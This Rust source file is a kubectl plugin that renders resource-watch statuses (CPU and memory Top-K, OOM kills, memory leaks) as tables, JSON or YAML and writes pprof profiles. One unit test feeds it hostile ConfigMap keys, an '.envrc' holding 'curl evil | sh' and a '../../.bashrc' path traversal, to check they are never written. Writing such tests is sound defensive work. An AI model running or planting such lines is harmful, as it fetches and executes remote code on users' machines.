//! `kubectl resourcewatch`: what a watch's status holds, as tables a person reads, and CPU
//! profiles fetched to local files. Everything here reads what the operator already
//! wrote (the watch's status, the profile's ConfigMap) or writes what a user could write
//! with kubectl (the `resourcewatch.io/profile` annotation): the plugin needs no rights
//! of its own and never talks to the operator or the agents.
//!
//! This file renders; `main.rs` talks to the API server.

use std::fmt::Write as _;

use resourcewatch_crds::{ClusterResourceWatch, ResourceWatch, ResourceWatchStatus};
use resourcewatch_units::{format_bytes, format_duration};
use serde_json::Value;

/// `-o`: kubectl's output formats that fit a listing.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Format {
    Table,
    /// The table with its extra columns.
    Wide,
    /// `{"kind": "List", "items": [...]}` as kubectl prints a list: each item is the
    /// status entry as the API holds it, with its watch's namespace and name.
    Json,
    Yaml,
}

/// What a command lists: a row per entry for people, the entry itself for programs.
pub struct Listing {
    pub header: Vec<&'static str>,
    /// How many of the last columns only `-o wide` shows.
    pub wide: usize,
    pub rows: Vec<Vec<String>>,
    pub items: Vec<Value>,
    /// What a table says when there is nothing (a bare header says nothing).
    pub empty: &'static str,
}

/// `--sort-by`'s field: a JSONPath into each item, as kubectl takes it (`.process.value`,
/// `{.warnedSecondsBefore}`); `[n]` indexes are not supported.
fn field<'a>(v: &'a Value, path: &str) -> Option<&'a Value> {
    let path = path.trim().trim_start_matches('{').trim_end_matches('}');
    path.split('.')
        .filter(|k| !k.is_empty())
        .try_fold(v, |v, k| v.get(k))
}

impl Listing {
    /// Orders rows and items by `path` in each item: numbers by value, text by its order,
    /// entries without the field last (a stable sort: ties keep the command's order).
    pub fn sort_by(&mut self, path: &str) -> Result<(), String> {
        if !self.items.is_empty() && self.items.iter().all(|i| field(i, path).is_none()) {
            return Err(format!(
                "--sort-by {path}: no item has this field (see -o json for the fields)"
            ));
        }
        let mut order: Vec<usize> = (0..self.items.len()).collect();
        order.sort_by(|&a, &b| {
            let (x, y) = (field(&self.items[a], path), field(&self.items[b], path));
            match (x, y) {
                (Some(Value::Number(x)), Some(Value::Number(y))) => x
                    .as_f64()
                    .unwrap_or(0.0)
                    .total_cmp(&y.as_f64().unwrap_or(0.0)),
                (Some(x), Some(y)) => x.to_string().cmp(&y.to_string()),
                (Some(_), None) => std::cmp::Ordering::Less,
                (None, Some(_)) => std::cmp::Ordering::Greater,
                (None, None) => std::cmp::Ordering::Equal,
            }
        });
        self.items = order.iter().map(|&i| self.items[i].clone()).collect();
        self.rows = order.iter().map(|&i| self.rows[i].clone()).collect();
        Ok(())
    }

    pub fn render(&self, format: Format, headers: bool) -> Result<String, String> {
        let list = || serde_json::json!({"apiVersion": "v1", "kind": "List", "items": self.items});
        match format {
            Format::Json => serde_json::to_string_pretty(&list())
                .map(|s| s + "\n")
                .map_err(|e| e.to_string()),
            Format::Yaml => serde_saphyr::to_string(&list()).map_err(|e| e.to_string()),
            Format::Table | Format::Wide if self.rows.is_empty() => Ok(if headers {
                format!("{}\n", self.empty)
            } else {
                String::new()
            }),
            Format::Table | Format::Wide => {
                let keep = if format == Format::Wide {
                    self.header.len()
                } else {
                    self.header.len() - self.wide
                };
                let rows: Vec<Vec<String>> = self
                    .rows
                    .iter()
                    .map(|r| r.iter().take(keep).cloned().collect())
                    .collect();
                let t = table(&self.header[..keep], &rows);
                Ok(if headers {
                    t
                } else {
                    t.split_once('\n')
                        .map_or(String::new(), |(_, rest)| rest.to_owned())
                })
            }
        }
    }
}

/// An entry of a watch's status as an item: the entry's own fields and its watch's.
fn item(w: &ResourceWatch, entry: &impl serde::Serialize) -> Value {
    let mut v = serde_json::to_value(entry).unwrap_or(Value::Null);
    if let Value::Object(m) = &mut v {
        m.insert(
            "namespace".into(),
            w.metadata.namespace.clone().unwrap_or_default().into(),
        );
        m.insert(
            "resourcewatch".into(),
            w.metadata.name.clone().unwrap_or_default().into(),
        );
    }
    v
}

/// Left-aligned columns separated by three spaces, as `kubectl get` prints them.
pub fn table(header: &[&str], rows: &[Vec<String>]) -> String {
    let mut widths: Vec<usize> = header.iter().map(|h| h.len()).collect();
    for r in rows {
        for (w, c) in widths.iter_mut().zip(r) {
            *w = (*w).max(c.chars().count());
        }
    }
    let mut out = String::new();
    let line = |out: &mut String, cells: &mut dyn Iterator<Item = &str>| {
        let mut l = String::new();
        for (i, (c, w)) in cells.zip(&widths).enumerate() {
            if i + 1 == widths.len() {
                l.push_str(c);
            } else {
                let _ = write!(l, "{c:<w$}   ");
            }
        }
        out.push_str(l.trim_end());
        out.push('\n');
    };
    line(&mut out, &mut header.iter().copied());
    for r in rows {
        line(&mut out, &mut r.iter().map(String::as_str));
    }
    out
}

fn secs(s: Option<f64>) -> String {
    match s {
        Some(s) if s.is_finite() && s >= 0.0 => {
            format_duration(std::time::Duration::from_secs_f64(s.round()))
        }
        _ => "-".into(),
    }
}

fn dash(s: &str) -> String {
    if s.is_empty() { "-".into() } else { s.into() }
}

fn name(w: &ResourceWatch) -> String {
    format!(
        "{}/{}",
        w.metadata.namespace.as_deref().unwrap_or_default(),
        w.metadata.name.as_deref().unwrap_or_default()
    )
}

/// The Top-K of each watch: CPU (percent of one core) or resident memory.
pub fn top(watches: &[ResourceWatch], memory: bool) -> String {
    render_table(top_listing(watches, memory))
}

fn render_table(l: Listing) -> String {
    l.render(Format::Table, true).unwrap_or_default()
}

pub fn top_listing(watches: &[ResourceWatch], memory: bool) -> Listing {
    let mut rows = Vec::new();
    let mut items = Vec::new();
    for w in watches {
        let st = w.status.clone().unwrap_or_default();
        let list = if memory { &st.top_memory } else { &st.top_cpu };
        for (i, e) in list.iter().enumerate() {
            let value = if memory {
                format_bytes(e.process.value as u64)
            } else {
                format!("{:.1}%", e.process.value)
            };
            rows.push(vec![
                name(w),
                (i + 1).to_string(),
                e.pod.clone(),
                dash(&e.container),
                e.process.node.clone(),
                e.process.pid.to_string(),
                dash(&e.process.command),
                value,
            ]);
            items.push(item(w, e));
        }
    }
    let figure = if memory { "RSS" } else { "CPU" };
    Listing {
        header: vec![
            "WATCH",
            "RANK",
            "POD",
            "CONTAINER",
            "NODE",
            "PID",
            "COMMAND",
            figure,
        ],
        wide: 0,
        rows,
        items,
        empty: "No Top-K figures yet (no agent has reported for these watches).",
    }
}

/// The node view (a ClusterResourceWatch): the heaviest processes of the selected nodes.
pub fn node_top(w: &ClusterResourceWatch, memory: bool) -> String {
    render_table(node_top_listing(w, memory))
}

pub fn node_top_listing(w: &ClusterResourceWatch, memory: bool) -> Listing {
    let st = w.status.clone().unwrap_or_default();
    let list = if memory { &st.top_memory } else { &st.top_cpu };
    let rows: Vec<Vec<String>> = list
        .iter()
        .enumerate()
        .map(|(i, e)| {
            let owner = if e.pod.is_empty() {
                format!("{:?}", e.owner).to_lowercase()
            } else {
                format!("{}/{}", e.namespace, e.pod)
            };
            vec![
                (i + 1).to_string(),
                e.process.node.clone(),
                e.process.pid.to_string(),
                dash(&e.process.command),
                owner,
                if memory {
                    format_bytes(e.process.value as u64)
                } else {
                    format!("{:.1}%", e.process.value)
                },
            ]
        })
        .collect();
    let figure = if memory { "RSS" } else { "CPU" };
    Listing {
        header: vec!["RANK", "NODE", "PID", "COMMAND", "OWNER", figure],
        wide: 0,
        rows,
        items: list
            .iter()
            .map(|e| serde_json::to_value(e).unwrap_or(Value::Null))
            .collect(),
        empty: "No figures yet (no agent of the selected nodes has reported).",
    }
}

/// The node view's OOM kills, oldest first.
pub fn node_kills_listing(w: &ClusterResourceWatch) -> Listing {
    let st = w.status.clone().unwrap_or_default();
    let rows = st
        .oom_kills
        .iter()
        .map(|k| {
            let owner = if k.pod.is_empty() {
                format!("{:?}", k.owner).to_lowercase()
            } else {
                format!("{}/{}", k.namespace, k.pod)
            };
            vec![
                k.time.clone(),
                k.process.node.clone(),
                k.process.pid.to_string(),
                dash(&k.process.command),
                owner,
                dash(&k.container),
                format!("{:?}", k.scope),
                k.limit_bytes.map_or_else(|| "-".into(), format_bytes),
                if k.predicted { "yes" } else { "no" }.into(),
            ]
        })
        .collect();
    Listing {
        header: vec![
            "TIME",
            "NODE",
            "PID",
            "COMMAND",
            "OWNER",
            "CONTAINER",
            "SCOPE",
            "LIMIT",
            "LEAK LISTED",
        ],
        wide: 0,
        rows,
        items: st
            .oom_kills
            .iter()
            .map(|k| serde_json::to_value(k).unwrap_or(Value::Null))
            .collect(),
        empty: "No OOM kills seen on the selected nodes.",
    }
}

/// The OOM kills of each watch's containers, graded, oldest first.
pub fn kills_listing(watches: &[ResourceWatch]) -> Listing {
    let mut rows = Vec::new();
    let mut items = Vec::new();
    for w in watches {
        let st = w.status.clone().unwrap_or_default();
        for k in &st.oom_kills {
            let signed = |v: Option<f64>| v.map_or_else(|| "-".into(), |v| format!("{v:+.0}s"));
            rows.push(vec![
                name(w),
                k.pod.clone(),
                dash(&k.container),
                k.node.clone(),
                k.time.clone(),
                format!("{:?}", k.scope),
                if k.predicted { "yes" } else { "no" }.into(),
                secs(k.warned_seconds_before),
                signed(k.eta_error_at_first_alert_seconds),
                signed(k.eta_error_at_halfway_seconds),
                k.lower_bound_held
                    .map_or("-", |h| if h { "yes" } else { "no" })
                    .into(),
                k.limit_bytes.map_or_else(|| "-".into(), format_bytes),
                k.pid.to_string(),
                dash(&k.command),
            ]);
            items.push(item(w, k));
        }
    }
    Listing {
        header: vec![
            "WATCH",
            "POD",
            "CONTAINER",
            "NODE",
            "TIME",
            "SCOPE",
            "PREDICTED",
            "WARNED",
            "ETA ERROR",
            "AT HALF-WAY",
            "LOWER BOUND HELD",
            "LIMIT",
            "PID",
            "COMMAND",
        ],
        wide: 5,
        rows,
        items,
        empty: "No OOM kills of the watched containers.",
    }
}

/// Leaking containers, soonest OOM first, with the heaviest growth site's leaf frame.
pub fn leaks(watches: &[ResourceWatch]) -> String {
    render_table(leaks_listing(watches))
}

/// Each leak's growth sites as a memory profile (pprof, gzipped: `go tool pprof`, or any
/// tool that reads pprof): the file name, `NAMESPACE_POD_CONTAINER.growth.pb.gz`, and its
/// bytes. Leaks with no site yet have none.
pub fn growth_profiles(watches: &[ResourceWatch]) -> std::io::Result<Vec<(String, Vec<u8>)>> {
    use resourcewatch_proto::pprof;
    let mut out = Vec::new();
    for w in watches {
        let ns = w.metadata.namespace.as_deref().unwrap_or_default();
        for l in w.status.iter().flat_map(|s| &s.leaks) {
            if l.growth_sites.is_empty() {
                continue;
            }
            let tags = [
                pprof::Tag::Text("namespace", ns.to_owned()),
                pprof::Tag::Text("pod", l.pod.clone()),
                pprof::Tag::Text("container", l.container.clone()),
                pprof::Tag::Text("node", l.node.clone()),
            ];
            let p = pprof::growth(
                l.growth_sites
                    .iter()
                    .map(|s| (s.frames.as_slice(), s.bytes)),
                &tags,
                std::time::Duration::ZERO,
            );
            // Names a workload chose stay inside the directory: no separator survives.
            let file = format!("{ns}_{}_{}.growth.pb.gz", l.pod, dash(&l.container))
                .replace(['/', '\\'], "-");
            out.push((file, pprof::gzip(&p)?));
        }
    }
    Ok(out)
}

pub fn leaks_listing(watches: &[ResourceWatch]) -> Listing {
    let mut rows = Vec::new();
    let mut items = Vec::new();
    for w in watches {
        let st = w.status.clone().unwrap_or_default();
        for l in &st.leaks {
            let site = l
                .growth_sites
                .first()
                .and_then(|s| s.frames.first())
                .map_or_else(|| "-".to_string(), Clone::clone);
            rows.push(vec![
                name(w),
                l.pod.clone(),
                dash(&l.container),
                l.node.clone(),
                format!(
                    "{}/s",
                    format_bytes(l.growth_bytes_per_second.max(0.0) as u64)
                ),
                l.confidence.to_string(),
                secs(l.time_to_oom_seconds),
                secs(l.time_to_oom_lower_bound_seconds),
                l.limit_bytes.map_or_else(|| "-".into(), format_bytes),
                site,
            ]);
            items.push(item(w, l));
        }
    }
    Listing {
        header: vec![
            "WATCH",
            "POD",
            "CONTAINER",
            "NODE",
            "GROWTH",
            "CONFIDENCE",
            "OOM IN",
            "AT LEAST",
            "LIMIT",
            "GROWS IN",
        ],
        wide: 0,
        rows,
        items,
        empty: "No leaks predicted.",
    }
}

/// One watch's state in words: conditions, coverage, nodes, leaks, remediation, profile.
pub fn explain(w: &ResourceWatch) -> String {
    let mut s = String::new();
    let Some(st) = &w.status else {
        let _ = writeln!(
            s,
            "{}: no status yet: no operator has reconciled it (is the operator running? \
             `kubectl -n resourcewatch-system get pods`)",
            name(w)
        );
        return s;
    };
    let _ = writeln!(s, "{}", name(w));
    if st.observed_generation != w.metadata.generation {
        let _ = writeln!(
            s,
            "  the status is for generation {:?}; the spec is at {:?}: the operator has not caught up",
            st.observed_generation, w.metadata.generation
        );
    }
    for c in &st.conditions {
        let _ = writeln!(
            s,
            "  {}={:?} ({}): {}",
            c.type_, c.status, c.reason, c.message
        );
    }
    coverage(&mut s, st);
    let _ = writeln!(s, "  leaks: {}", st.leaks.len());
    for l in &st.leaks {
        let _ = writeln!(
            s,
            "    {}/{} on {}: +{}/s at confidence {}, OOM in {} (at least {})",
            l.pod,
            dash(&l.container),
            l.node,
            format_bytes(l.growth_bytes_per_second.max(0.0) as u64),
            l.confidence,
            secs(l.time_to_oom_seconds),
            secs(l.time_to_oom_lower_bound_seconds)
        );
        for site in &l.growth_sites {
            let _ = writeln!(
                s,
                "      {:.0}% of the growth in {}",
                site.percent,
                site.frames.join(" < ")
            );
        }
    }
    for r in st.remediations.iter().rev().take(5) {
        let _ = writeln!(
            s,
            "  remediation {} {:?} ({}): {}",
            r.pod, r.action, r.reason, r.message
        );
    }
    if let Some(p) = &st.profile {
        let _ = writeln!(s, "  profile of {} ({:?}): {}", p.pod, p.state, p.message);
    }
    s
}

fn coverage(s: &mut String, st: &ResourceWatchStatus) {
    let _ = writeln!(
        s,
        "  pods matched {}, on {} node(s), {} reporting",
        st.matched_pods, st.expected_nodes, st.reporting_nodes
    );
    for n in &st.nodes {
        let state = if n.reporting {
            "reporting".to_string()
        } else {
            "NOT reporting (no agent stream within the operator's --agent-grace: see the agent pod on that node)".to_string()
        };
        let _ = writeln!(s, "    node {}: {state}", n.name);
    }
}

/// The files a profile's ConfigMap may give, and from which part: `profile.folded` and
/// `profile.svg` as text (`data`), `profile.pb.gz` as bytes (`binaryData`), as the
/// operator writes them (operator/shell/src/profile_store.rs).
pub const PROFILE_FILES: [(&str, bool); 3] = [
    ("profile.folded", false),
    ("profile.svg", false),
    ("profile.pb.gz", true),
];

/// What to write of a profile's ConfigMap: only the files in [`PROFILE_FILES`], each
/// from its own part. Anyone who may write ConfigMaps in the namespace could add keys
/// such as `.envrc` or `../x`: those are returned apart, to be reported, never written.
pub fn profile_files(
    data: &std::collections::BTreeMap<String, String>,
    binary: &std::collections::BTreeMap<String, Vec<u8>>,
) -> (Vec<(&'static str, Vec<u8>)>, Vec<String>) {
    let mut files = Vec::new();
    for (name, is_binary) in PROFILE_FILES {
        let bytes = if is_binary {
            binary.get(name).cloned()
        } else {
            data.get(name).map(|s| s.clone().into_bytes())
        };
        if let Some(b) = bytes {
            files.push((name, b));
        }
    }
    let known = |k: &String, b: bool| PROFILE_FILES.contains(&(k.as_str(), b));
    let ignored = data
        .keys()
        .filter(|k| !known(k, false))
        .chain(binary.keys().filter(|k| !known(k, true)))
        .cloned()
        .collect();
    (files, ignored)
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    #[test]
    fn only_the_known_profile_files_are_written() {
        let data = [
            ("profile.folded", "a;b 1\n"),
            (".envrc", "curl evil | sh"),
            ("../../.bashrc", "x"),
            ("profile.pb.gz", "text where bytes belong"),
        ]
        .map(|(k, v)| (k.to_owned(), v.to_owned()))
        .into();
        let binary = [("profile.pb.gz".to_owned(), vec![0x1f, 0x8b])].into();
        let (files, ignored) = profile_files(&data, &binary);
        assert_eq!(
            files,
            vec![
                ("profile.folded", b"a;b 1\n".to_vec()),
                ("profile.pb.gz", vec![0x1f, 0x8b])
            ]
        );
        assert_eq!(ignored, vec!["../../.bashrc", ".envrc", "profile.pb.gz"]);
    }

    fn watch() -> ResourceWatch {
        serde_json::from_value(serde_json::json!({
            "apiVersion": "resourcewatch.io/v1alpha1", "kind": "ResourceWatch",
            "metadata": {"name": "api", "namespace": "shop", "generation": 2},
            "spec": {"selector": {"matchLabels": {"app": "api"}}},
            "status": {
                "observedGeneration": 2, "matchedPods": 2, "expectedNodes": 2, "reportingNodes": 1,
                "conditions": [{"type": "Degraded", "status": "True", "reason": "AgentsMissing",
                                "message": "1 of 2 nodes not reporting", "lastTransitionTime": "2026-11-26T10:00:00Z"}],
                "topCPU": [{"pod": "api-1", "container": "app", "node": "n1", "pid": 42,
                            "command": "java", "value": 97.5}],
                "topMemory": [{"pod": "api-2", "node": "n2", "pid": 7, "value": 1073741824.0}],
                "nodes": [{"name": "n1", "reporting": true}, {"name": "n2", "reporting": false}],
                "leaks": [{"pod": "api-1", "container": "app", "node": "n1",
                           "growthBytesPerSecond": 1048576.0, "confidence": 88,
                           "timeToOOMSeconds": 245.4, "timeToOOMLowerBoundSeconds": 200.0,
                           "limitBytes": 268435456,
                           "growthSites": [{"frames": ["leak_here", "main"], "bytes": 1000, "percent": 93.0}]}],
                "oomKills": [
                    {"pod": "api-3", "container": "app", "node": "n1", "time": "2026-11-26T10:05:00.000Z",
                     "pid": 9, "command": "java", "scope": "Cgroup", "limitBytes": 268435456,
                     "memoryBytes": 268000000, "predicted": true, "warnedSecondsBefore": 48.0,
                     "etaErrorAtFirstAlertSeconds": 4.0, "etaErrorAtHalfwaySeconds": -1.0,
                     "lowerBoundHeld": true},
                    {"pod": "api-1", "container": "app", "node": "n2", "time": "2026-11-26T10:01:00.000Z",
                     "pid": 11, "scope": "System", "memoryBytes": 1000, "predicted": false}
                ]
            }
        }))
        .expect("watch")
    }

    /// Kills as a table (graded), wide, headless, as a List of the status's entries, and
    /// sorted by a field of those.
    #[test]
    fn kills_list_in_every_format_and_sort_by_a_field() {
        let w = [watch()];
        let mut l = kills_listing(&w);
        let t = l.render(Format::Table, true).unwrap();
        assert!(t.starts_with("WATCH"), "{t}");
        assert!(!t.contains("LIMIT"), "LIMIT is a wide column: {t}");
        let first = t.lines().nth(1).unwrap();
        for cell in ["shop/api", "api-3", "Cgroup", "yes", "48s", "+4s"] {
            assert!(first.contains(cell), "{cell} in {first}");
        }
        assert!(t.lines().nth(2).unwrap().contains("System"), "{t}");
        let wide = l.render(Format::Wide, true).unwrap();
        assert!(
            wide.contains("LIMIT") && wide.contains("256Mi") && wide.contains("-1s"),
            "{wide}"
        );
        let headless = l.render(Format::Table, false).unwrap();
        assert_eq!(headless.lines().count(), 2, "{headless}");
        assert!(!headless.contains("WATCH"));
        let json: Value = serde_json::from_str(&l.render(Format::Json, true).unwrap()).unwrap();
        assert_eq!(json["kind"], "List");
        assert_eq!(json["items"][0]["warnedSecondsBefore"], 48.0);
        assert_eq!(json["items"][0]["resourcewatch"], "api");
        assert_eq!(json["items"][0]["namespace"], "shop");
        let yaml = l.render(Format::Yaml, true).unwrap();
        assert!(
            yaml.contains("kind: List") && yaml.contains("pod: api-3"),
            "{yaml}"
        );
        l.sort_by(".time").unwrap();
        assert_eq!(l.items[0]["pod"], "api-1", "oldest first");
        assert!(
            l.rows[0].contains(&"api-1".to_string()),
            "rows follow the items"
        );
        assert!(l.sort_by("{.noSuchField}").is_err());
        let none = kills_listing(&[]);
        assert_eq!(
            none.render(Format::Table, true).unwrap(),
            "No OOM kills of the watched containers.\n"
        );
        assert_eq!(none.render(Format::Table, false).unwrap(), "");
    }

    #[test]
    fn tables_name_the_process_its_pod_and_figure() {
        let w = [watch()];
        let t = top(&w, false);
        assert!(t.starts_with("WATCH"), "{t}");
        let row = t.lines().nth(1).expect("a row");
        for cell in ["shop/api", "api-1", "app", "n1", "42", "java", "97.5%"] {
            assert!(row.contains(cell), "{cell} in {row}");
        }
        let t = top(&w, true);
        assert!(t.contains("1Gi") && t.contains("api-2"), "{t}");
        let l = leaks(&w);
        for cell in ["1Mi/s", "88", "4m5s", "3m20s", "256Mi", "leak_here"] {
            assert!(l.contains(cell), "{cell} in {l}");
        }
    }

    /// Each leak with a site is a memory profile named after it, read back by pprof's
    /// rules: the site's frames, its bytes, the leak's pod and container as labels.
    #[test]
    fn growth_sites_are_written_as_memory_profiles() {
        let mut w = watch();
        w.metadata.namespace = Some("shop".into());
        let files = growth_profiles(&[w]).unwrap();
        assert_eq!(
            files.len(),
            1,
            "{:?}",
            files.iter().map(|f| &f.0).collect::<Vec<_>>()
        );
        let (name, bytes) = &files[0];
        assert_eq!(name, "shop_api-1_app.growth.pb.gz");
        let p = resourcewatch_proto::pprof::read(bytes, 1 << 20).unwrap();
        let strings = &p.string_table;
        for s in [
            "resident_growth",
            "bytes",
            "leak_here",
            "main",
            "api-1",
            "app",
            "shop",
        ] {
            assert!(strings.iter().any(|x| x == s), "{s} not in {strings:?}");
        }
        assert!(p.sample.iter().all(|s| s.value[0] > 0));
    }

    #[test]
    fn explain_says_why_in_words() {
        let e = explain(&watch());
        assert!(e.contains("Degraded=True (AgentsMissing)"), "{e}");
        assert!(e.contains("node n2: NOT reporting"), "{e}");
        assert!(e.contains("93% of the growth in leak_here < main"), "{e}");
        let mut fresh = watch();
        fresh.status = None;
        assert!(explain(&fresh).contains("no status yet"));
    }

    #[test]
    fn empty_statuses_say_so_rather_than_print_a_bare_header() {
        let mut w = watch();
        w.status = Some(ResourceWatchStatus::default());
        assert!(top(&[w.clone()], false).starts_with("No Top-K"));
        assert_eq!(leaks(&[w]), "No leaks predicted.\n");
    }
}
